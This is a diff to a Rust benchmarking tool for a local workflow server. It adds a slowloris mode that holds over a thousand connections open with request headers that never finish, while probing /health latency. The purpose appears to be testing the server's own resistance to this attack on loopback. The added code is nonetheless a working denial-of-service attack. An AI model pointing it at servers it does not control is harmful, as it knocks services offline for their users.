@@ -13,6 +13,19 @@
 //! target/release/stepline serve --data-dir /tmp/bench-data &
 //! target/release/stepline-load --type EXPRESS --action StartExecution --connections 64 --seconds 10
 //! ```
+//!
+//! `--mode slowloris` attacks instead: `--connections` connections each
+//! send a request head one header line every `--interval` seconds, never
+//! finishing it, and reopen at the next tick when the server closes them;
+//! meanwhile a probe opens a fresh connection for `GET /health` every
+//! 100 ms and prints its latency (p50, p99, max) and how many probes got
+//! no 200. `--attack-from IP` sends the attack from another loopback
+//! address than the probe (by default both share 127.0.0.1, the worst
+//! case for a per-client limit).
+//!
+//! ```sh
+//! target/release/stepline-load --mode slowloris --connections 1030 --interval 5 --seconds 60
+//! ```
 
 use std::net::SocketAddr;
 use std::time::{Duration, Instant};
@@ -23,6 +36,11 @@ use tokio::net::TcpStream;
 
 struct Options {
     addr: SocketAddr,
+    mode: Mode,
+    /// Seconds between two header lines of an attack connection.
+    interval: u64,
+    /// The attack's source address (the probe's is the system's choice).
+    attack_from: Option<std::net::IpAddr>,
     machine_type: String,
     states: usize,
     action: String,
@@ -30,9 +48,18 @@ struct Options {
     seconds: u64,
 }
 
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Mode {
+    Requests,
+    Slowloris,
+}
+
 fn parse_args() -> Result<Options, String> {
     let mut options = Options {
         addr: SocketAddr::from(([127, 0, 0, 1], 8083)),
+        mode: Mode::Requests,
+        interval: 5,
+        attack_from: None,
         machine_type: "EXPRESS".into(),
         states: 1,
         action: "StartExecution".into(),
@@ -44,6 +71,23 @@ fn parse_args() -> Result<Options, String> {
         let mut value = || args.next().ok_or(format!("{flag} needs a value"));
         match flag.as_str() {
             "--addr" => options.addr = value()?.parse().map_err(|e| format!("--addr: {e}"))?,
+            "--mode" => {
+                options.mode = match value()?.as_str() {
+                    "requests" => Mode::Requests,
+                    "slowloris" => Mode::Slowloris,
+                    other => return Err(format!("--mode: '{other}' is not requests or slowloris")),
+                }
+            }
+            "--interval" => {
+                options.interval = value()?.parse().map_err(|e| format!("--interval: {e}"))?
+            }
+            "--attack-from" => {
+                options.attack_from = Some(
+                    value()?
+                        .parse()
+                        .map_err(|e| format!("--attack-from: {e}"))?,
+                )
+            }
             "--type" => options.machine_type = value()?,
             "--states" => {
                 options.states = value()?.parse().map_err(|e| format!("--states: {e}"))?
@@ -60,8 +104,8 @@ fn parse_args() -> Result<Options, String> {
             other => return Err(format!("unknown flag {other}")),
         }
     }
-    if options.states == 0 || options.connections == 0 {
-        return Err("--states and --connections must be at least 1".into());
+    if options.states == 0 || options.connections == 0 || options.interval == 0 {
+        return Err("--states, --connections and --interval must be at least 1".into());
     }
     Ok(options)
 }
@@ -218,6 +262,9 @@ fn main() -> std::process::ExitCode {
         .enable_all()
         .build()
         .expect("a tokio runtime");
+    if options.mode == Mode::Slowloris {
+        return runtime.block_on(slowloris(&options));
+    }
     runtime.block_on(async {
         let arn = match setup(&options).await {
             Ok(arn) => arn,
@@ -261,4 +308,163 @@ fn main() -> std::process::ExitCode {
         );
         std::process::ExitCode::SUCCESS
     })
+}
+
+/// What the attack connections did.
+#[derive(Debug, Default, Clone, Copy)]
+struct AttackCounts {
+    opened: u64,
+    /// Closed by the server (cut off, or made room for another).
+    closed: u64,
+    /// Could not connect at all.
+    refused: u64,
+}
+
+async fn attack_connect(
+    addr: SocketAddr,
+    from: Option<std::net::IpAddr>,
+) -> std::io::Result<TcpStream> {
+    let socket = if addr.is_ipv4() {
+        tokio::net::TcpSocket::new_v4()?
+    } else {
+        tokio::net::TcpSocket::new_v6()?
+    };
+    if let Some(ip) = from {
+        socket.bind(SocketAddr::new(ip, 0))?;
+    }
+    socket.connect(addr).await
+}
+
+/// One slowloris connection until `deadline`: a request line, then a
+/// header line every `interval`, never the blank line that ends the head;
+/// reopened at the next tick when the server closes it.
+async fn attacker(
+    addr: SocketAddr,
+    from: Option<std::net::IpAddr>,
+    interval: Duration,
+    deadline: Instant,
+) -> AttackCounts {
+    let mut counts = AttackCounts::default();
+    let mut stream: Option<TcpStream> = None;
+    let mut line = 0u64;
+    while Instant::now() < deadline {
+        if stream.is_none() {
+            match attack_connect(addr, from).await {
+                Ok(mut s) => {
+                    counts.opened += 1;
+                    let head = format!("GET /health HTTP/1.1\r\nHost: {addr}\r\n");
+                    if s.write_all(head.as_bytes()).await.is_ok() {
+                        stream = Some(s);
+                    } else {
+                        counts.closed += 1;
+                    }
+                }
+                Err(_) => counts.refused += 1,
+            }
+        }
+        let tick = tokio::time::sleep_until((Instant::now() + interval).min(deadline).into());
+        tokio::pin!(tick);
+        let Some(s) = stream.as_mut() else {
+            tick.await;
+            continue;
+        };
+        let mut buffer = [0u8; 1024];
+        tokio::select! {
+            () = &mut tick => {
+                line += 1;
+                if s.write_all(format!("X-Line-{line}: {line}\r\n").as_bytes()).await.is_err() {
+                    counts.closed += 1;
+                    stream = None;
+                }
+            }
+            _ = s.read(&mut buffer) => {
+                // An answer (503, 408) or the end: the server let go.
+                counts.closed += 1;
+                stream = None;
+                // Reopen at the next tick, as slowloris tools do.
+                tick.await;
+            }
+        }
+    }
+    counts
+}
+
+/// One `GET /health` on a fresh connection: its latency, or `None` when
+/// it got no 200 within 60 s.
+async fn probe(addr: SocketAddr) -> Option<Duration> {
+    let start = Instant::now();
+    let attempt = async {
+        let mut stream = TcpStream::connect(addr).await.ok()?;
+        stream
+            .write_all(
+                format!("GET /health HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n")
+                    .as_bytes(),
+            )
+            .await
+            .ok()?;
+        let mut answer = Vec::new();
+        stream.read_to_end(&mut answer).await.ok()?;
+        answer.starts_with(b"HTTP/1.1 200").then_some(())
+    };
+    match tokio::time::timeout(Duration::from_secs(60), attempt).await {
+        Ok(Some(())) => Some(start.elapsed()),
+        _ => None,
+    }
+}
+
+async fn slowloris(options: &Options) -> std::process::ExitCode {
+    let start = Instant::now();
+    let deadline = start + Duration::from_secs(options.seconds);
+    let interval = Duration::from_secs(options.interval);
+    let attackers: Vec<_> = (0..options.connections)
+        .map(|_| {
+            tokio::spawn(attacker(
+                options.addr,
+                options.attack_from,
+                interval,
+                deadline,
+            ))
+        })
+        .collect();
+    // Let the attack take its places before the first probe.
+    tokio::time::sleep(Duration::from_millis(500).min(interval)).await;
+    let mut latencies = Vec::new();
+    let mut failed = 0u64;
+    let mut probes = Vec::new();
+    while Instant::now() < deadline {
+        probes.push(tokio::spawn(probe(options.addr)));
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    for p in probes {
+        match p.await {
+            Ok(Some(latency)) => {
+                latencies.push(u32::try_from(latency.as_micros()).unwrap_or(u32::MAX));
+            }
+            _ => failed += 1,
+        }
+    }
+    let mut counts = AttackCounts::default();
+    for a in attackers {
+        if let Ok(c) = a.await {
+            counts.opened += c.opened;
+            counts.closed += c.closed;
+            counts.refused += c.refused;
+        }
+    }
+    latencies.sort_unstable();
+    println!(
+        "slowloris connections={} interval={}s seconds={:.1}: attack opened {} connections, {} closed by the server, {} could not connect; /health {} ok, {} failed; latency ms p50 {:.3} p99 {:.3} max {:.3}",
+        options.connections,
+        options.interval,
+        start.elapsed().as_secs_f64(),
+        counts.opened,
+        counts.closed,
+        counts.refused,
+        latencies.len(),
+        failed,
+        percentile(&latencies, 0.5),
+        percentile(&latencies, 0.99),
+        percentile(&latencies, 1.0),
+    );
+    std::process::ExitCode::SUCCESS
 }
